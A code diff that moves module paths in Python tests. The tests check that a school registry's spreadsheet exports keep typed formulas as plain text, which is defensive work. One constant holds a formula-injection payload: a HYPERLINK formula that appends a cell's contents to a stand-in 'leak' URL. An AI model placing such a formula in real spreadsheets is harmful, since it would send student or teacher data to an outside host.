@@ -21,16 +21,16 @@ from openpyxl import Workbook, load_workbook
 
 from common.spreadsheets import csv_cell, formula_like
 from conftest import World, login
-from tenant_apps.registry import workbooks
 from tenant_apps.registry.fields import BY_KEY, COLUMNS
-from tenant_apps.registry.tests.factories import valid_row
-from tenant_apps.registry.workbooks import (
+from tenant_apps.registry.imports import workbooks
+from tenant_apps.registry.imports.workbooks import (
     DATA_SHEET,
     INSTRUCTIONS_SHEET,
     rows_export,
     template_build,
     workbook_annotate,
 )
+from tenant_apps.registry.tests.factories import valid_row
 from tenants.context import school_context
 
 LEAK = '=HYPERLINK("http://x/leak?"&I2,"点击")'
@@ -120,12 +120,12 @@ def test_export_leaves_lookalikes_alone_and_survives_control_characters() -> Non
     assert [c.value for c in ws[2]][-2:] == ["李\ufffd四", "王\ufffd五"]
 
 
-# -- the teacher list and its template (registry.teachers through rows_export) --------------
+# -- the teacher list and its template (registry.teachers.services through rows_export) ---
 
 
 def test_teacher_export_and_template_keep_typed_formulas_as_text(world: World, db: None) -> None:
     from common.actor import Actor
-    from tenant_apps.registry.teachers import TEACHER_SHEET, teacher_create
+    from tenant_apps.registry.teachers.services import TEACHER_SHEET, teacher_create
 
     subjects = [text[:30] for text in HOSTILE]  # 任教学科 holds 30 characters
     with school_context(world.a.schema):
@@ -289,7 +289,7 @@ HELPER = "common/spreadsheets.py"
 # Every module that writes spreadsheets, with the tests above that read its output back.
 # A new writer must be added here, with a test, and write through common.spreadsheets.
 WRITERS = {
-    "tenant_apps/registry/workbooks.py": (
+    "tenant_apps/registry/imports/workbooks.py": (
         "test_student_export_keeps_typed_formulas_as_text",
         "test_template_keeps_a_school_name_that_looks_like_a_formula_as_text",
         "test_annotated_workbook_keeps_typed_formulas_as_text",
